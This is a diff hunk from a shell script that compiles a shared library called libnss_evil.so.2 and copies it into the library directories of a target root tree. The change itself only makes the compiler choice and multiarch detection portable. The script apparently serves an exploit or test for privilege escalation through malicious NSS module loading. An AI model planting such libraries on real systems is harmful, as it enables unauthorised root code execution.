@@ -899,10 +899,11 @@ evil(void)
 	}
 }
 EOF
-	gcc -shared -fPIC -Wl,-soname,libnss_evil.so.2 \
+	"${CC:-cc}" -shared -fPIC -Wl,-soname,libnss_evil.so.2 \
 		-o "$V/libnss_evil.so.2" "$V/evil.c"
-	multi=$(gcc -print-multiarch)
-	for d in "lib/$multi" "usr/lib/$multi" lib usr/lib lib64 usr/lib64; do
+	# Debian's multiarch directories come first in glibc's search.
+	multi=$("${CC:-cc}" -print-multiarch 2>/dev/null) || multi=
+	for d in ${multi:+"lib/$multi" "usr/lib/$multi"} lib usr/lib lib64 usr/lib64; do
 		mkdir -p "$1/$d"
 		cp "$V/libnss_evil.so.2" "$1/$d/"
 	done
